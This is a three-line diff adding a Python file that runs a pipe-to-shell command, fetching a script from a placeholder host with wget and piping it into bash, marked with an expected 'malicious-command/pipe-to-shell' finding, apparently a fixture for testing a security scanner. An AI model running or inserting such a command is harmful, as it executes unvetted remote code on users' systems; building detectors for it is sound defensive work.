@@ -1,0 +1,3 @@
+import os
+
+os.system("wget -qO- https://tool.example/i | bash") # expect: malicious-command/pipe-to-shell
